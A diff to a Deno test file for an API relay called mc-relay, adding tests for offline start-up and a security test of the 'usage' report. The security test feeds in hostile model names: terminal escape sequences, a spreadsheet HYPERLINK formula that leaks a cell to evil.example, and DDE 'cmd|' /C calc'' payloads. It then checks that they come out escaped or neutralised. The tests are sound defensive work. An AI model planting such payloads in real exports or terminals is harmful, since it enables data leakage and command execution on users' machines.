@@ -1,11 +1,12 @@
 /**
  * The real process: start-up and shutdown, the demo, the commands and .env files, HTTPS and the
- * healthcheck, the metrics port, WORKERS, and the deploy examples.
+ * healthcheck, the metrics port, WORKERS, the deploy examples, what `mc-relay usage` prints, and a start
+ * with no package registry.
  *
  * Proved through the real HTTP surface (see testing.ts); the last test checks that no secret leaked.
  */
 import assert from "node:assert/strict";
-import { ENV_VARS, parseConfig, ThreadLock } from "../main.ts";
+import { ENV_VARS, parseConfig, SqliteCounterStore, ThreadLock } from "../main.ts";
 import {
   ALLOWED,
   CANARY_CALLER_KEY,
@@ -28,10 +29,51 @@ import {
   selfSignedCertificate,
   sleep,
   spawnRelay,
+  startRelay,
   startUpstream,
+  testConfig,
   USERNAME,
   within,
-} from "../testing.ts";
+} from "./testing.ts";
+
+/** The project's folder, where `deno task` finds deno.json and the lock files. */
+const PROJECT = new URL("..", import.meta.url).pathname;
+
+/** An empty Deno cache and a registry address where nothing listens: any package fetch fails at once. */
+async function offline(): Promise<Record<string, string>> {
+  return {
+    DENO_DIR: await Deno.makeTempDir({ prefix: "mc-relay-empty-cache-" }),
+    NPM_CONFIG_REGISTRY: "http://127.0.0.1:9/",
+  };
+}
+
+/** RFC 4180 CSV: quoted cells with doubled quotes; lines end in LF. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let index = 0; index < text.length; index++) {
+    const char = text[index];
+    if (quoted) {
+      if (char === '"' && text[index + 1] === '"') {
+        cell += '"';
+        index++;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ",") {
+      row.push(cell);
+      cell = "";
+    } else if (char === "\n") {
+      rows.push([...row, cell]);
+      row = [];
+      cell = "";
+    } else cell += char;
+  }
+  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
+  return rows;
+}
 
 /** Sends SIGTERM, waits until the relay says it is shutting down, and checks that a new connection is refused. */
 async function sigtermAndAskAgain(relay: Awaited<ReturnType<typeof spawnRelay>>) {
@@ -710,6 +752,120 @@ Deno.test({
         await relay.finished();
         await Deno.remove(folder, { recursive: true });
       }
+    },
+  );
+});
+
+Deno.test("process: mc-relay usage output [security]", async (t) => {
+  await t.step(
+    "[security] mc-relay usage escapes control characters in the table and neutralises formulas in CSV",
+    async (t) => {
+      await using upstream = startUpstream(openAiLikeUpstream);
+      const folder = await Deno.makeTempDir({ prefix: "mc-relay-usage-escapes-" });
+      const statePath = `${folder}/state.db`;
+      const hostile = [
+        "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\x1b[2J",
+        '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTAB=1",
+        "\u202egpt\u2028",
+        "plain-model",
+      ];
+      try {
+        const counters = await SqliteCounterStore.open(statePath);
+        try {
+          await using relay = startRelay(testConfig(upstream.url), undefined, undefined, { counters });
+          for (const model of hostile) assert.equal((await relay.chat(chatBody({ model }))).status, 200, model);
+        } finally {
+          counters.close();
+        }
+        const usage = async (...args: string[]) => {
+          const result = await runRelayProcess({ STATE_PATH: statePath }, ["usage", "--by", "model", ...args]);
+          assert.equal(result.code, 0, result.stderr);
+          return result.stdout;
+        };
+
+        await t.step("[security] the table shows control characters as escapes, never raw", async () => {
+          const table = await usage();
+          // deno-lint-ignore no-control-regex -- the control characters are what must not be there
+          assert.doesNotMatch(table, /[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
+          assert.ok(table.includes("\\x1b]8;;https://evil.example/\\x07click\\x1b]8;;\\x07\\x1b[2J"), table);
+          assert.ok(table.includes("\\u202egpt\\u2028"), table);
+          assert.match(table, /^plain-model +1 /m);
+          assert.match(table, /^total +8 /m, "the columns still line up");
+        });
+
+        await t.step(
+          "[security] every CSV cell that a spreadsheet would run as a formula starts with a quote",
+          async () => {
+            const rows = parseCsv(await usage("--format", "csv"));
+            assert.deepEqual(rows[0], [
+              "model",
+              "requests",
+              "prompt_tokens",
+              "completion_tokens",
+              "total_tokens",
+              "estimated_requests",
+            ]);
+            const keys = rows.slice(1).map((row) => row[0]);
+            for (const key of keys) assert.doesNotMatch(key, /^[=+\-@\t\r]/, `a formula cell: ${key}`);
+            assert.ok(keys.includes(`'=HYPERLINK("https://evil.example/?leak="&A1,"click")`), keys.join("\n"));
+            assert.ok(keys.includes("'-2+3"));
+            assert.ok(keys.includes("'+1+cmd|' /C calc'!A0"));
+            assert.ok(keys.includes("'@SUM(1+1)*cmd|' /C calc'!A0"));
+            assert.ok(keys.includes("\\x09TAB=1"), "a leading tab is shown as an escape");
+            assert.ok(keys.includes("plain-model"), "ordinary names are unchanged");
+            assert.ok(rows.slice(1).every((row) => row.length === 6 && row[1] === "1"));
+          },
+        );
+
+        await t.step("JSON keeps the names exactly as clients sent them, safely encoded", async () => {
+          const report = JSON.parse(await usage("--format", "json"));
+          assert.deepEqual(report.rows.map((row: { model: string }) => row.model).sort(), [...hostile].sort());
+        });
+      } finally {
+        await Deno.remove(folder, { recursive: true });
+      }
+    },
+  );
+});
+
+Deno.test("process: the relay starts with no package registry and an empty cache", async (t) => {
+  for (const task of ["start", "demo"]) {
+    await t.step(`deno task ${task} fetches nothing before it listens`, async () => {
+      // The demo brings its own upstream and refuses a configured one.
+      const config = task === "demo" ? {} : minimalEnv;
+      const env = { ...config, ...await offline(), HOST: "127.0.0.1", PORT: String(freePort()) };
+      const relay = await spawnRelay(env, [], { cwd: PROJECT, deno: ["task", task] });
+      try {
+        const health = await fetch(`${relay.url}/health`);
+        assert.equal(health.status, 200);
+        await health.body?.cancel();
+        assert.doesNotMatch(relay.output().stderr, /Download|Failed caching/);
+      } finally {
+        relay.child.kill("SIGTERM");
+        await relay.finished();
+      }
+    });
+  }
+
+  await t.step(
+    "the relay's lock holds only what the relay may load (npm:redis); the tests' packages are in test/deno.lock",
+    async () => {
+      const relayLock = JSON.parse(await Deno.readTextFile(`${PROJECT}deno.lock`));
+      assert.deepEqual(Object.keys(relayLock.specifiers), ["npm:redis@5.12.1"]);
+      const testLock = JSON.parse(await Deno.readTextFile(`${PROJECT}test/deno.lock`));
+      for (const name of ["npm:openai@7.57.0", "npm:playwright-core@1.65.1", "npm:redis@5.12.1"]) {
+        assert.ok(name in testLock.specifiers, name);
+      }
+      const { lock, tasks } = JSON.parse(await Deno.readTextFile(`${PROJECT}deno.json`));
+      // `deno task` installs every npm package of the lock its config names before it runs anything: so none is named,
+      // and each task names its own.
+      assert.equal(lock, false);
+      for (const name of ["start", "dev", "demo"]) assert.match(tasks[name].command, /--lock=deno\.lock --frozen/);
+      assert.match(tasks.test.command, /--lock=test\/deno\.lock --frozen/);
     },
   );
 });
